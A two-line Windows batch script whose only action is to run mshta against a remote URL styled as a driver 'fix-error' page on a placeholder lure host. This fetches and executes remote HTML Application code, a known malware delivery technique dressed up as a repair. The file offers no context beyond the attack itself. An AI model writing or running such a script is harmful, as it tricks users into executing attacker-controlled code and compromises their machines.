@echo off
mshta https://drivers.lure.invalid/fix-error
